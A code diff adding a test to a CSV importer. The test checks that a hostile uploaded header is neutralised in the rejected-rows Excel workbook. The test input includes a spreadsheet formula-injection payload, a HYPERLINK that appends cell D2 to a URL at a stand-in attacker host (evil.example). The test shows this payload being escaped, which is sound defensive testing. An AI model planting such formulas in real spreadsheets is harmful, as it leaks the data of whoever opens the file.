@@ -113,6 +113,32 @@ def test_the_rejected_rows_workbook_gives_the_reason_beside_each_row(tmp_path: P
     assert by_row[8][birth_column].startswith("'=")
 
 
+def test_the_rejected_rows_workbook_writes_the_uploaded_header_as_text(tmp_path: Path) -> None:
+    # The header names are the uploader's text: one is a formula, one holds a control character (which
+    # openpyxl refuses), one a code point XML forbids (which leaves a workbook Excel cannot open).
+    formula = '"=HYPERLINK(""http://evil.example/?x=""&D2,""xem"")"'
+    path = tmp_path / "hostile.csv"
+    path.write_text(
+        f"{HEADER},{formula},ghi\x01chu,note\uffff\n"
+        f"R1,Ngô Văn Lỗi,Nam,2099-01-01,Hà Nội,,,{HOAN_KIEM},x,y,z\n",
+        encoding="utf-8",
+    )
+    run_import(path)
+    workbook = load_workbook(tmp_path / "hostile.csv.rejected.xlsx")
+    header = list(next(workbook.active.iter_rows(min_row=1, max_row=1)))
+    extra = [(cell.value, cell.data_type) for cell in header[-3:]]
+    assert extra == [
+        ('\'=hyperlink("http://evil.example/?x="&d2,"xem")', "s"),
+        ("ghichu", "s"),
+        ("note", "s"),
+    ]
+    assert [cell.value for cell in next(workbook.active.iter_rows(min_row=2, max_row=2))][-3:] == [
+        "x",
+        "y",
+        "z",
+    ]
+
+
 def test_importing_the_same_file_again_writes_nothing_twice(tmp_path: Path) -> None:
     path = csv_file(tmp_path)
     run_import(path)
